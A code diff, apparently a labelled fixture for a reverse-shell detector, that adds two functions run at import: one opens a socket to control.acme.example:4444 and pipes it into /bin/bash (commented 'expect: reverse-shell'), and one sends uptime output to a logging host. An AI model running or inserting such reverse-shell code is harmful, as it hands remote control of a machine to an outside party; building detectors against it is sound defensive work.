@@ -2,6 +2,7 @@ import os
 import pty
 import socket
 import subprocess
+import threading
 
 
 def first():
@@ -34,7 +35,26 @@ def fourth():
     subprocess.run(["git", "status"], stdout=log)
 
 
+def fifth():
+    s = socket.create_connection(("control.acme.example", 4444))
+    p = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    threading.Thread(target=pump, args=(s, p)).start()
+
+
+def pump(s, p):
+    while True:
+        p.stdin.write(s.recv(1024))  # expect: reverse-shell
+
+
+def sixth():
+    s = socket.create_connection(("logs.acme.example", 5140))
+    p = subprocess.Popen(["bash", "-c", "uptime"], stdout=subprocess.PIPE)
+    s.send(p.stdout.read())
+
+
 first()
 second()
 third()
 fourth()
+fifth()
+sixth()
